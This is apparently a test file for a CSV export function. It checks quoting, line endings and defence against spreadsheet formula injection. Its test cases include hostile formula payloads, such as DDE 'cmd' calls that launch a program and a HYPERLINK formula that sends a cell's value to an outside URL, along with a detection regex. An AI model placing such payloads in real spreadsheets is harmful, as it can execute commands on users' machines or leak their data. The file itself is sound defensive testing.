import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '$lib/formats';
import { readCsv } from '../../support/csv';

describe('a table as CSV', () => {
	it('begins with a byte order mark, ends every row with CRLF, and quotes only what must be', () => {
		expect(writeCsv([['Name', 'n'], ['Peña, "El Ñu"', 1234.5], [' a\nb', -2], []])).toBe(
			'\uFEFFName,n\r\n"Peña, ""El Ñu""",1234.5\r\n" a\nb",-2\r\n\r\n'
		);
	});

	it.each([
		'=HYPERLINK("https://example.org?x="&A1,"open")',
		"+1-2|cmd|' /C calc'!A0",
		'-2+3+cmd|!A0',
		'@SUM(1+1)',
		'\t=1+1',
		'\r=1+1',
		'\n=1+1',
		'＝1+1',
		'-'
	])('makes %j safe, and keeps it to be read', (hostile) => {
		const [[cell] = []] = readCsv(writeCsv([[hostile]]));
		expect(cell).toBe(`'${hostile}`);
	});

	it.each(['a=b', '59', '-103.8', '–', "O'Higgins", '7 @ 3', 'someone@example.org'])(
		'leaves %j as it is',
		(words) => {
			expect(readCsv(writeCsv([[words]]))).toEqual([[words]]);
		}
	);

	it('never lets a number become words', () => {
		expect(writeCsv([[-5, 0, 1e21]])).toBe('\uFEFF-5,0,1e+21\r\n');
	});

	it('comes back whatever the cells hold, and no cell begins a formula', () => {
		const cell = fc.oneof(
			fc.string(),
			fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '=', '+', "'", ';', ' ', 'ñ') }),
			fc.integer()
		);
		fc.assert(
			fc.property(
				fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
				(cells) => {
					const read = readCsv(writeCsv(cells));
					expect(read.map((row) => row.length)).toEqual(cells.map((row) => row.length));
					const back = read.flat();
					const written = cells.flat();
					const begins = /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/;
					expect(back.filter((text, i) => text !== String(written[i]) && text !== `'${written[i]}`)).toEqual(
						[]
					);
					expect(back.filter((text, i) => typeof written[i] === 'string' && begins.test(text))).toEqual([]);
				}
			)
		);
	});
});
